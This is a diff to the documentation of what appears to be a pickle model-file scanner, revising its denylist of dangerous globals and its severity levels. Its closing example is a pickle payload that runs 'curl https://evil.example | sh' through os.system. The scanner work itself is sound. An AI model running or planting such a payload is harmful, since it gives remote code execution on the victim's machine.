@@ -17,9 +17,14 @@ whatever `REDUCE`, `NEWOBJ`, `OBJ` and `INST` tell it to. A model file that name
 Denylisted packages cover all their submodules (`os.path`, `importlib.util`), and names reached
 through an attribute chain of another module (`torch.os.system`) are caught too.
 
-Severity is **critical** for code execution, processes and code objects; **high** for files,
-network, imports by name, attribute getters (`operator.attrgetter`, `builtins.getattr`) and
-interpreter state.
+Names are judged after resolving them as Python's `find_class` does: `shutil.os.system` is
+`os.system`, `io.open` is `_io.open`, whatever the spelling.
+
+Severity is **critical** for every known sink, however it is reached: code execution, processes,
+code objects, imports by name, file writes and reads, network, and loaders of a nested payload
+(`torch.load`, `numpy.load`, `pandas.read_pickle`). It is **high** for gadget builders
+(`operator.attrgetter`, `builtins.setattr`), interpreter state, probes of the system and
+callbacks that run later.
 
 ## Example
 `cos\nsystem\n(S'curl https://evil.example | sh'\ntR.` renders as
